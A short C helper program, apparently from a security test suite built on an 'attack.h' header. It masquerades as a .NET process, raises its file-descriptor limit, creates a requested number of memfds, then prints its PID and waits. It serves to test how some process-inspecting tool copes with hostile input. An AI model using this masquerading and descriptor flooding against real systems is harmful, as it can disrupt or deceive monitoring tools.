// An unprivileged program with many memfds of the name: many_memfds COUNT. Prints `ready PID` and
// stays.
#include "attack.h"

#include <stdlib.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <unistd.h>

int main(int argc, char **argv) {
  struct rlimit limit;
  const int wanted = argc > 1 ? atoi(argv[1]) : 0;
  attack_end_with_parent();
  attack_look_like_dotnet();
  if (getrlimit(RLIMIT_NOFILE, &limit))
    attack_die("getrlimit");
  limit.rlim_cur = limit.rlim_max;
  if (setrlimit(RLIMIT_NOFILE, &limit))
    attack_die("setrlimit");
  for (int i = 0; i < wanted; ++i)
    attack_fill(attack_memfd(1), 1, 1);
  attack_say("ready %d\n", (int)getpid());
  for (;;)
    (void)pause();
}
